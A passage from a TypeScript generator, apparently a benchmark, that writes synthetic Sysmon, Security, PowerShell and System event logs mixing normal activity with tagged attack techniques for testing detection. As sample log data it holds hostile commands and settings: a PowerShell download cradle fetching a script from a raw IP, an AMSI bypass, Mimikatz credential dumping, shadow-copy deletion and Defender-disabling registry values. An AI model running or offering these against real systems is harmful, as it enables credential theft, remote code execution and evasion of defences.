        DestinationIsIpv6: 'false', DestinationIp: attack ? pick(random, ['185.220.101.4', '45.137.21.9']) : `${pick(random, ['10.0.0', '13.107.42', '142.250.74', '20.190.151'])}.${between(random, 1, 254)}`, DestinationHostname: attack ? '-' : pick(random, SITES), DestinationPort: port, DestinationPortName: port === 443 ? 'https' : '-',
      });
    },
  },
  {
    // Sysmon 7, image loaded (T1003.001: credential DLLs in odd processes; T1574 side-loading).
    weight: 22,
    render: (random, estate, attack) => {
      const { facts, context } = describeBackground(random, estate);
      const dll = attack ? pick(random, ['dbghelp.dll', 'dbgcore.dll', 'vaultcli.dll', 'samlib.dll', 'wmiutils.dll', 'clr.dll']) : pick(random, DLLS);
      const image = attack ? pick(random, [`${SYSTEM32}rundll32.exe`, 'C:\\Users\\Public\\svchost.exe', `${SYSTEM32}mshta.exe`, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE']) : facts.image;
      return sysmon(7, context, {
        ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: image, ImageLoaded: `${SYSTEM32}${dll}`,
        FileVersion: '10.0.19041.3636 (WinBuild.160101.0800)', Description: dll, Product: WINDOWS, Company: MS, OriginalFileName: dll,
        Hashes: `SHA1=${hex(random, 40)},MD5=${hex(random, 32)},SHA256=${hex(random, 64)},IMPHASH=${hex(random, 32)}`, Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: userOf(facts.account, context),
      });
    },
  },
  {
    // Sysmon 11, file created (T1547.001 startup folder, T1105 drops in public folders).
    weight: 12,
    render: (random, estate, attack) => {
      const { facts, context } = describeBackground(random, estate);
      const target = attack
        ? pick(random, [`${context.profile}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs`, 'C:\\Users\\Public\\Downloads\\payload.exe', 'C:\\Windows\\Temp\\lsass.dmp', `${context.profile}\\AppData\\Local\\Temp\\mimikatz.exe`, 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'])
        : `${context.profile}\\AppData\\Local\\${pick(random, ['Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data', 'Microsoft\\Edge\\User Data\\Default\\Code Cache\\js', 'Temp', 'Microsoft\\Windows\\INetCache\\IE'])}\\${hex(random, 16, false)}${pick(random, ['', '.tmp', '_0', '.log'])}`;
      return sysmon(11, context, { ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: attack ? POWERSHELL : facts.image, TargetFilename: target, CreationUtcTime: nextTime(random), User: userOf(facts.account, context) });
    },
  },
  {
    // Sysmon 12 and 13, registry (T1547.001 run keys, T1562.001 Defender tampering).
    weight: 14,
    render: (random, estate, attack) => {
      const { facts, context } = describeBackground(random, estate);
      const set = random() < 0.7;
      if (attack) {
        const [target, details] = pick(random, [
          ['HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\Public\\svchost.exe'],
          ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)'],
          ['HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public', 'DWORD (0x00000000)'],
          ['HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'DWORD (0x00000001)'],
          ['HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger', 'C:\\Windows\\System32\\cmd.exe'],
        ] as const);
        return sysmon(13, context, { EventType: 'SetValue', ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: `${SYSTEM32}reg.exe`, TargetObject: target, Details: details, User: userOf('admin', context) });
      }
      const target = `${pick(random, REG_KEYS)}\\${hex(random, 8, false)}`;
      return set
        ? sysmon(13, context, { EventType: 'SetValue', ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: facts.image, TargetObject: target, Details: pick(random, ['DWORD (0x00000001)', 'Binary Data', `QWORD (0x${hex(random, 8, false)}-0x${hex(random, 8, false)})`, facts.image]), User: userOf(facts.account, context) })
        : sysmon(12, context, { EventType: pick(random, ['CreateKey', 'DeleteKey']), ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), Image: facts.image, TargetObject: target, User: userOf(facts.account, context) });
    },
  },
  {
    // Sysmon 22, DNS query.
    weight: 6,
    render: (random, estate, attack) => {
      const { facts, context } = describeBackground(random, estate);
      return sysmon(22, context, { ProcessGuid: `{${guid(random)}}`, ProcessId: between(random, 400, 60000), QueryName: attack ? pick(random, ['raw.githubusercontent.com', 'transfer.sh', 'pastebin.com', 'ngrok.io', 'api.telegram.org']) : pick(random, SITES), QueryStatus: '0', QueryResults: `::ffff:${between(random, 1, 223)}.${between(random, 0, 255)}.${between(random, 0, 255)}.${between(random, 1, 254)};`, Image: attack ? POWERSHELL : facts.image, User: userOf(facts.account, context) });
    },
  },
  {
    // Security 4624, logon (T1078; type 9 is runas /netonly, type 10 RDP).
    weight: 5,
    render: (random, estate, attack) => {
      const context = createContext(random, estate);
      const logonType = attack ? 9 : pick(random, [2, 3, 3, 3, 5, 7, 10, 11]);
      return {
        EventID: 4624, Channel: 'Security', Computer: `${context.host.name}.contoso.local`, TimeCreated: nextTime(random),
        SubjectUserSid: 'S-1-5-18', SubjectUserName: `${context.host.name}$`, SubjectDomainName: 'CONTOSO', SubjectLogonId: '0x3e7',
        TargetUserSid: `S-1-5-21-1004336348-1177238915-682003330-${between(random, 1100, 9000)}`, TargetUserName: context.user, TargetDomainName: 'CONTOSO', TargetLogonId: `0x${hex(random, 6, false)}`,
        LogonType: logonType, LogonProcessName: attack ? 'seclogo' : pick(random, ['User32', 'Kerberos', 'NtLmSsp', 'Advapi']), AuthenticationPackageName: attack ? 'Negotiate' : pick(random, ['Kerberos', 'Negotiate', 'NTLM']),
        WorkstationName: context.host.name, LogonGuid: `{${guid(random)}}`, TransmittedServices: '-', LmPackageName: '-', KeyLength: 0, ProcessId: '0x2b4', ProcessName: `${SYSTEM32}lsass.exe`,
        IpAddress: `10.${between(random, 0, 20)}.${between(random, 0, 255)}.${between(random, 1, 254)}`, IpPort: between(random, 0, 65535), ImpersonationLevel: '%%1833', ElevatedToken: '%%1843',
      };
    },
  },
  {
    // PowerShell 4104, script block (T1059.001).
    weight: 4,
    render: (random, estate, attack) => {
      const context = createContext(random, estate);
      const text = attack
        ? pick(random, ['IEX (New-Object Net.WebClient).DownloadString("http://185.220.101.4/a.ps1")', 'Invoke-Mimikatz -DumpCreds', '[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)); [Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed","NonPublic,Static").SetValue($null,$true)', 'Get-WmiObject -Class Win32_Shadowcopy | ForEach-Object { $_.Delete() }', 'Invoke-ShareFinder -CheckShareAccess'])
        : pick(random, SCRIPTS);
      return {
        EventID: 4104, Channel: 'Microsoft-Windows-PowerShell/Operational', Computer: `${context.host.name}.contoso.local`, TimeCreated: nextTime(random),
        MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: guid(random).toLowerCase(), Path: random() < 0.5 ? '' : `C:\\ProgramData\\Scripts\\${pick(random, ['inventory', 'cleanup', 'printers'])}.ps1`,
      };
    },
  },
  {
    // System 7045, service installed (T1543.003).
    weight: 1,
    render: (random, estate, attack) => {
      const context = createContext(random, estate);
      return {
        EventID: 7045, Channel: 'System', Provider_Name: 'Service Control Manager', Computer: `${context.host.name}.contoso.local`, TimeCreated: nextTime(random),
        ServiceName: attack ? pick(random, ['PSEXESVC', 'UpdateSvc', 'WinRing0_1_2_0']) : pick(random, ['Google Update Service (gupdatem)', 'Zoom Sharing Service', 'CorpAgent', 'VMware Tools']),
        ImagePath: attack ? pick(random, ['%SystemRoot%\\PSEXESVC.exe', 'C:\\ProgramData\\update.exe', 'cmd.exe /c powershell -enc SQBFAFgA']) : `"C:\\Program Files\\${pick(random, ['Google\\Update', 'Zoom\\bin', 'CorpAgent', 'VMware\\VMware Tools'])}\\service.exe"`,
        ServiceType: 'user mode service', StartType: pick(random, ['auto start', 'demand start']), AccountName: 'LocalSystem',
      };
    },
  },
];

const pickSource = createPicker(SOURCES);

// ---------------------------------------------------------------------------------------------------

/** What a generated file holds. */
export interface GeneratedEvents {
  readonly events: number;
  /** Events drawn from the attack techniques rather than the background. */
  readonly attacks: number;
}

/** The kinds of benchmark files. */
export type EstateKind = 'process-creation' | 'windows';

/** Writes `count` events of the kind as NDJSON, streaming; deterministic for `seed` (and `attackShare`, default 0.4 %). */
export async function generateEstateEvents(kind: EstateKind, file: string, count: number, seed = 1, attackShare = ATTACK_SHARE): Promise<GeneratedEvents> {
  await mkdir(path.dirname(file), { recursive: true });
  const random = createRandom(seed);
  clock = Date.UTC(2024, 4, 14, 6, 0, 0);
  const estate = createEstate(random);
  const out = createWriteStream(file);
  let attacks = 0;
  let batch = '';
  for (let index = 0; index < count; index += 1) {
    let event: Record<string, unknown>;
    if (kind === 'process-creation') {
      const created = createProcessCreation(random, estate, attackShare);
      if (created.attack) attacks += 1;
      event = created.event;
    } else {
      const attack = random() < attackShare;
      if (attack) attacks += 1;
      event = pickSource(random).render(random, estate, attack);
    }
    batch += `${JSON.stringify(event)}\n`;
    if (batch.length > 1 << 20) {
      if (!out.write(batch)) await once(out, 'drain');
      batch = '';
    }
  }
  out.end(batch);
  await once(out, 'finish');
  return { events: count, attacks };
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const [kind = 'process-creation', file = 'bench/out/estate.ndjson', count = '100000', seed = '1'] = process.argv.slice(2);
  if (kind !== 'process-creation' && kind !== 'windows') {
    process.stderr.write('usage: estate-events.ts process-creation|windows OUT.ndjson [count] [seed]\n');
    process.exit(2);
  }
  const generated = await generateEstateEvents(kind, file, Number(count), Number(seed));
  process.stdout.write(`${generated.events} ${kind} events (${generated.attacks} from attack techniques) written to ${file}\n`);
}
